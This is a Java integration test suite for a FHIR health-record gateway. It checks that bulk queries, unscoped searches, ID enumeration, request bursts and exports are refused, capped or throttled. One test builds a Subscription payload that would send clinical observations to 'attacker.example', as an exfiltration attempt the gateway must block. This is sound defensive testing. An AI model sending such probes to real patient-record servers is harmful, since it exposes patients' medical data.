package org.fhirwall.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Bulk-query controls at the door, through fhirwall to a real HAPI FHIR server: mass queries are
 * refused or capped before the EPR sees them, and a principal's request rate is bounded.
 */
@ExtendWith(LeakWatch.class)
class BulkControlsIT {
  static final ObjectMapper JSON = new ObjectMapper();
  static ItEnvironment it;
  static List<String> ids;

  @BeforeAll
  static void start() throws Exception {
    it = ItEnvironment.start(800);
    ids = it.env.store().samplePatientIds(40, 3);
  }

  @AfterAll
  static void stop() {
    if (it != null) {
      it.close();
    }
  }

  static String strict() {
    return it.token("strict-" + UUID.randomUUID(), "strict");
  }

  static HttpRequest.Builder post(String path, String contentType, String body) {
    return HttpRequest.newBuilder(it.uri(path)).header("Content-Type", contentType).POST(HttpRequest.BodyPublishers.ofString(body));
  }

  static String bundle(String type, List<String> urls) {
    StringBuilder sb = new StringBuilder("{\"resourceType\":\"Bundle\",\"type\":\"" + type + "\",\"entry\":[");
    for (int i = 0; i < urls.size(); i++) {
      sb.append(i == 0 ? "" : ",").append("{\"request\":{\"method\":\"GET\",\"url\":\"").append(urls.get(i)).append("\"}}");
    }
    return sb.append("]}").toString();
  }

  static String issueCode(HttpResponse<String> r) throws Exception {
    return JSON.readTree(r.body()).path("issue").path(0).path("code").asText();
  }

  @Test
  void aBatchOf500ReadsIsRefusedWhole() throws Exception {
    List<String> reads = new ArrayList<>();
    for (int i = 0; i < 500; i++) {
      reads.add("Patient/" + ids.get(i % ids.size()));
    }
    HttpResponse<String> r = it.send(post("", "application/fhir+json", bundle("batch", reads)), strict());
    assertThat(r.statusCode()).isEqualTo(403);
    assertThat(r.body()).contains("OperationOutcome").contains("100");
  }

  @Test
  void aTransactionHidingABareSearchIsRefusedWithTheEntryNamed() throws Exception {
    HttpResponse<String> r = it.send(post("", "application/fhir+json",
        bundle("transaction", List.of("Patient/" + ids.get(0), "Patient?_count=50"))), strict());
    assertThat(r.statusCode()).isEqualTo(403);
    assertThat(r.body()).contains("entry 1");
  }

  @Test
  void aHugeCountIsLoweredNotRefused() throws Exception {
    HttpResponse<String> r = it.get("Patient?family=Martin,Bernard,Thomas,Petit,Robert,Richard,Durand&_count=100000", strict());
    assertThat(r.statusCode()).isEqualTo(200);
    JsonNode b = JSON.readTree(r.body());
    assertThat(b.path("entry").size()).isEqualTo(50);
  }

  @Test
  void aBareSearchIsRefusedOrCappedAsThePolicySays() throws Exception {
    HttpResponse<String> refused = it.get("Patient", strict());
    assertThat(refused.statusCode()).isEqualTo(403);
    HttpResponse<String> capped = it.get("Patient", it.token("capped-" + UUID.randomUUID(), "capped"));
    assertThat(capped.statusCode()).isEqualTo(200);
    assertThat(JSON.readTree(capped.body()).path("entry").size()).isEqualTo(50);
  }

  @Test
  void aClinicalSearchWithoutAPatientIsRefused() throws Exception {
    assertThat(it.get("Observation?code=8867-4", strict()).statusCode()).isEqualTo(403);
    assertThat(it.get("Observation?subject=Patient/" + ids.get(0), strict()).statusCode()).isEqualTo(200);
    assertThat(it.get("Patient?_id=" + String.join(",", ids.subList(0, 11)), strict()).statusCode()).isEqualTo(403);
    assertThat(it.get("Observation?subject.name=smith", strict()).statusCode()).isEqualTo(403);
    assertThat(it.get("Patient?_has:Observation:subject:code=8867-4", strict()).statusCode()).isEqualTo(403);
  }

  @Test
  void theSameForbiddenRequestGetsTheSameRefusalInEveryEncoding() throws Exception {
    String token = strict();
    String forbidden = "Observation?code=8867-4";
    List<HttpResponse<String>> answers = List.of(
        it.get(forbidden, token),
        it.send(post("Observation/_search", "application/x-www-form-urlencoded", "code=8867-4"), token),
        it.send(post("", "application/fhir+json", bundle("batch", List.of(forbidden))), token),
        it.send(post("", "application/fhir+json", bundle("transaction", List.of(forbidden))), token),
        it.get(forbidden + "&_format=xml", token));
    for (HttpResponse<String> r : answers) {
      assertThat(r.statusCode()).as(r.body()).isEqualTo(403);
      assertThat(r.body()).contains("OperationOutcome").contains("forbidden");
    }
  }

  @Test
  void anInteractiveUserCannotOpenAnOutOfBandChannel() throws Exception {
    String token = strict();
    assertThat(it.send(HttpRequest.newBuilder(it.uri("$export")).header("Prefer", "respond-async").GET(), token).statusCode())
        .isEqualTo(403);
    assertThat(it.send(HttpRequest.newBuilder(it.uri("Patient/$export")).header("Prefer", "respond-async").GET(), token)
        .statusCode()).isEqualTo(403);
    String subscription = "{\"resourceType\":\"Subscription\",\"status\":\"requested\",\"criteria\":\"Observation?\","
        + "\"channel\":{\"type\":\"rest-hook\",\"endpoint\":\"https://attacker.example/hook\"}}";
    assertThat(it.send(post("Subscription", "application/fhir+json", subscription), token).statusCode()).isEqualTo(403);
    String tx = "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"resource\":" + subscription
        + ",\"request\":{\"method\":\"POST\",\"url\":\"Subscription\"}}]}";
    assertThat(it.send(post("", "application/fhir+json", tx), token).statusCode()).isEqualTo(403);
  }

  @Test
  void anIdWalkOverMissingRecordsLocksTheAccount() throws Exception {
    String token = it.token("walker-" + UUID.randomUUID(), "capped");
    int notFound = 0;
    for (int i = 0; i < 21; i++) {
      HttpResponse<String> r = it.get("Patient/nobody-" + i, token);
      assertThat(r.statusCode()).isEqualTo(404);
      notFound++;
    }
    assertThat(notFound).isEqualTo(21);
    HttpResponse<String> after = it.get("Patient/" + ids.get(0), token);
    assertThat(after.statusCode()).as(after.body()).isEqualTo(429);
    assertThat(after.body()).contains("locked");
  }

  @Test
  void parallelRequestsAboveTheRateGet429NeverA5xx() throws Exception {
    String token = strict();
    String path = "Patient/" + ids.get(1);
    ExecutorService pool = Executors.newFixedThreadPool(8);
    try {
      List<Future<HttpResponse<String>>> answers = new ArrayList<>();
      for (int i = 0; i < 60; i++) {
        answers.add(pool.submit(() -> it.get(path, token)));
      }
      int ok = 0;
      int throttled = 0;
      for (Future<HttpResponse<String>> f : answers) {
        HttpResponse<String> r = f.get();
        assertThat(r.statusCode()).as(r.body()).isIn(200, 429);
        if (r.statusCode() == 200) {
          ok++;
        } else {
          throttled++;
          assertThat(r.headers().firstValue("Retry-After")).isPresent();
        }
      }
      assertThat(throttled).isPositive();
      // burst 10 plus 5 per second over the few seconds 60 requests take: far fewer than 60 reach the EPR
      assertThat(ok).isLessThan(40).isGreaterThanOrEqualTo(4);
    } finally {
      pool.shutdownNow();
    }
  }

  @Test
  void aClinicianCannotKickOffAnExportButTheBulkServiceAccountCanAndItsFilesAreCounted() throws Exception {
    HttpResponse<String> clinician = it.send(HttpRequest.newBuilder(it.uri("Patient/$export?_type=Patient"))
        .header("Prefer", "respond-async").GET(), strict());
    assertThat(clinician.statusCode()).isEqualTo(403);

    String service = it.env.issuer().mint(org.fhirwall.demo.DemoIssuer.Claims.builder("research-export", "fhirwall", "research-export")
        .username("service-account-research-export").roles(Set.of("bulk-export")).sid(null).authTime(null).amr(List.of())
        .build());
    HttpResponse<String> kickOff = it.send(HttpRequest.newBuilder(it.uri("$export?_type=Observation"))
        .header("Prefer", "respond-async").GET(), service);
    assertThat(kickOff.statusCode()).as(kickOff.body()).isEqualTo(202);
    String status = kickOff.headers().firstValue("Content-Location").orElseThrow();
    assertThat(status).startsWith(it.proxyBase()).doesNotContain(it.env.eprBase());

    JsonNode manifest = null;
    for (int i = 0; i < 50 && manifest == null; i++) {
      HttpResponse<String> poll = it.get(status, service);
      assertThat(poll.statusCode()).as(poll.body()).isIn(200, 202);
      if (poll.statusCode() == 200) {
        manifest = JSON.readTree(poll.body());
      } else {
        Thread.sleep(Duration.ofMillis(300).toMillis());
      }
    }
    assertThat(manifest).as("the export completed").isNotNull();
    Set<String> disclosed = new java.util.HashSet<>();
    int downloaded = 0;
    int refused = 0;
    for (JsonNode file : manifest.path("output")) {
      String url = file.path("url").asText();
      assertThat(url).startsWith(it.proxyBase());
      HttpResponse<String> download = it.send(HttpRequest.newBuilder(it.uri(url)).header("Accept", "application/fhir+ndjson").GET(),
          service);
      if (download.statusCode() == 200) {
        assertThat(download.headers().firstValue("Content-Type").orElseThrow()).contains("ndjson");
        downloaded++;
        for (String line : download.body().split("\n")) {
          if (!line.isBlank()) {
            RecordLimitsIT.collect(JSON.readTree(line), disclosed);
          }
        }
      } else {
        assertThat(download.statusCode()).isEqualTo(429);
        refused++;
      }
    }
    assertThat(downloaded).as("files within the limit are released").isPositive();
    assertThat(refused).as("the limit of 500 patients was reached inside the export").isPositive();
    assertThat(disclosed).hasSizeLessThanOrEqualTo(500);
  }
}
